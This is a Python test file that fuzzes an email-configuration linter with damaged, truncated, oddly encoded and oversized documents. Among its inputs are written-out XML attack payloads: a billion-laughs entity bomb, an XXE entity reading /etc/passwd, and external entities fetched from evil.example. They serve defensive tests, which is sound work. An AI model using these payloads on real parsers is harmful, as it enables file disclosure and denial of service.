"""Hostile documents: whatever it is, lint answers with findings or one clear refusal."""

from __future__ import annotations

import gzip
import re
import subprocess
import sys
from contextlib import suppress

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from advisor.errors import InputError
from advisor.linter import linters
from advisor.model.published import LintReport
from tests.linting.documents import good, linted

GOOD = {
    "autoconfig": "autoconfig-good.xml",
    "autodiscover": "autodiscover-good.xml",
    "mobileconfig": "profile-good.mobileconfig",
    "pacc": "pacc-good.json",
    "zone": "zone-good.txt",
}
MOST = 256 * 1024
BOMB = b"""<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaaaaaaaa">%s]>""" % b"".join(
    b'<!ENTITY %c "%s">' % (after, b"&%c;" % before * 10)
    for before, after in zip(b"abcdefgh", b"bcdefghi", strict=True)
)


def sane(document: bytes) -> None:
    """A report that can be shown anywhere, or a refusal."""
    with suppress(InputError):
        check(linted(document), document)


def check(report: LintReport, document: bytes) -> None:
    """Nothing unprintable, nothing beyond the end."""
    lines = document.count(b"\n") + document.count(b"\r") + 1
    assert len(report.findings) <= 1000
    for one in report.findings:
        assert one.message.isprintable()
        assert one.instead.isprintable()
        assert 0 <= one.line <= lines
    for row in report.readers:
        assert all(text.isprintable() for text in row.says)
    for server in report.servers:
        assert server.port is None or 1 <= server.port <= 65535
        assert server.host.isprintable()


_PIECES = st.sampled_from(
    ["\x00", "\u202e", "\u200b", "\x1b[31m", "%", "%EMAILADDRESS", "{", "}", "{text}", '"', "'",
     "<", ">", "&amp;", "&x;", "]]>", "<![CDATA[", "<!--", "-->", "99999999999999999999", "-1",
     "\n", "\r", "(", ")", ";", "\\", "ünïcödé", "\ud800", "<dict>", "</dict>", "null", "[[[["]
)  # fmt: skip


@pytest.mark.parametrize("form", GOOD)
@settings(max_examples=80, deadline=None)
@given(data=st.data())
def test_a_damaged_document_is_looked_at_or_refused(form: str, data: st.DataObject) -> None:
    """Wherever something is cut out or put in, a few times."""
    text = good(GOOD[form])
    for _ in range(data.draw(st.integers(1, 4))):
        at = data.draw(st.integers(0, len(text)))
        text = text[:at] + data.draw(_PIECES) + text[at + data.draw(st.integers(0, 40)) :]
    sane(text.encode("utf-8", "surrogatepass"))


@pytest.mark.parametrize("form", GOOD)
def test_a_truncated_document_is_looked_at_or_refused(form: str) -> None:
    """After every so many bytes."""
    document = good(GOOD[form]).encode()
    for cut in range(0, len(document), 41):
        sane(document[:cut])


@settings(max_examples=150, deadline=None)
@given(st.binary(max_size=400))
def test_any_bytes_are_looked_at_or_refused(document: bytes) -> None:
    """Noise, alone and behind what the formats are recognised by."""
    sane(document)
    for begin in (b"<clientConfig>", b"<Autodiscover>", b"<plist>", b"bplist00", b"{", b"a SRV "):
        sane(begin + document)


@pytest.mark.parametrize("form", GOOD)
@pytest.mark.parametrize(
    "encoding", ["utf-16", "utf-16-be", "utf-32", "cp037", "utf-7", "utf-8-sig"]
)
def test_other_encodings_are_looked_at_or_refused(form: str, encoding: str) -> None:
    """Wide, strange, and with a byte order mark."""
    sane(good(GOOD[form]).encode(encoding))


def test_a_document_in_utf_16_is_recognised() -> None:
    """And told to be in the wrong encoding."""
    report = linted(good(GOOD["autoconfig"]).replace("UTF-8", "UTF-16").encode("utf-16"))
    assert report.format == "autoconfig"
    assert "not-utf-8" in {one.code for one in report.findings}
    assert len(report.servers) == 2


@pytest.mark.parametrize("root", [b"clientConfig", b"Autodiscover", b"plist"])
def test_entities_are_never_expanded(root: bytes) -> None:
    """A billion laughs, an entity from a file, one from the network."""
    for declared in (
        BOMB,
        b'<!DOCTYPE x [<!ENTITY i SYSTEM "file:///etc/passwd">]>',
        b'<!DOCTYPE x [<!ENTITY % i SYSTEM "http://evil.example/"> %i;]>',
        b'<!DOCTYPE x SYSTEM "http://evil.example/x.dtd">',
    ):
        report = linted(b"%s<%s>&i;</%s>" % (declared, root, root))
        assert [one.code for one in report.findings if one.severity == "error"] == [
            "document-broken"
        ]
        assert "root:" not in repr(report)


def test_a_compressed_document_is_refused() -> None:
    """Nothing is unpacked here."""
    with pytest.raises(InputError, match="in no format"):
        linted(gzip.compress(good(GOOD["autoconfig"]).encode()))


def filled(begin: bytes, unit: bytes, end: bytes) -> bytes:
    """As many *unit* as there is room for."""
    return begin + unit * ((MOST - len(begin) - len(end)) // len(unit)) + end


PROVIDER = b'<clientConfig><emailProvider id="a.example">'
END = b"</emailProvider></clientConfig>"
HUGE = {
    "sections": filled(PROVIDER, b'<incomingServer type="imap"/>', END),
    "a hundred thousand sections": PROVIDER + b'<incomingServer type="imap"/>' * 100_000 + END,
    "domains": filled(PROVIDER, b"<domain>a.example</domain>", END),
    "unknown elements": filled(PROVIDER, b"<a/>", END),
    "deep": b"<clientConfig>" + b"<a>" * 60_000,
    "attributes": b"<clientConfig %s/>" % b" ".join(b'a%d=""' % n for n in range(20_000)),
    "protocols": filled(b"<Autodiscover><Response><Account>", b"<Protocol/>",
                        b"</Account></Response></Autodiscover>"),
    "keys": b"<plist><dict>%s</dict></plist>"
            % b"".join(b"<key>PayloadX%d</key><true/>" % n for n in range(7000)),
    "arrays": b"<plist>" + b"<array>" * 30_000,
    "members": b'{"protocols": {%s}}' % b",".join(b'"imaq%d":{}' % n for n in range(15_000)),
    "brackets": b"{" + b'"a":[' * 50_000,
    "escapes": b'{"a": "' + b"\\u0041" * 40_000,
    "records": b"_imaps._tcp.example.org. SRV 0 1 993 a.example.\n" * 20_000,
    "denied": b"_imaps._tcp.a.example. SRV 0 0 0 .\n_imaps._tcp.a.example. SRV 0 1 9 a.b.\n" * 9000,
    "parentheses": b"a SRV " + b"(" * 900_000,
    "quotes": b"a SRV " + b'"' * 900_000,
    "digits": b"a " + b"1h" * 1900 + b"! SRV 1\n",
    "cms": bytes.fromhex("308006092a864886f70d010702") + b"\xa0\x80\x30\x80" * 200_000,
}  # fmt: skip


@pytest.mark.parametrize("name", HUGE)
def test_a_huge_document_is_looked_at_or_refused(name: str) -> None:
    """With no more findings than somebody could read."""
    sane(HUGE[name])


@pytest.mark.skipif(not sys.platform.startswith("linux"), reason="/proc tells the peak")
def test_memory_stays_small() -> None:
    """Less than 200 MB for all of them, one after the other."""
    script = (
        "from tests.linting.test_hostile import HUGE, sane\n"
        "for one in HUGE.values(): sane(one)\n"
        "print(open('/proc/self/status').read())"
    )
    done = subprocess.run(
        [sys.executable, "-c", script], capture_output=True, text=True, check=True, timeout=300
    )
    peak = re.search(r"VmHWM:\s+(\d+) kB", done.stdout)  # ru_maxrss has the parent's in it
    assert peak is not None
    assert int(peak[1]) < 200 * 1024


def test_every_format_is_tried() -> None:
    """A new one gets its place here."""
    assert {one.id for one in linters()} == set(GOOD)
